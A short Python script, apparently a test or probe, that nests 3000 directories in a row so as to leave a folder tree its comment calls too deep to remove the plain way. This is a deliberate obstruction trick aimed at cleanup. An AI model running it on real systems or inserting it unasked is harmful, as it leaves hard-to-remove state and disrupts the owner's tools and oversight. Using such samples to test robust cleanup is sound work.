# Tries to leave a tree of folders that is too deep to be removed the plain way.
import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
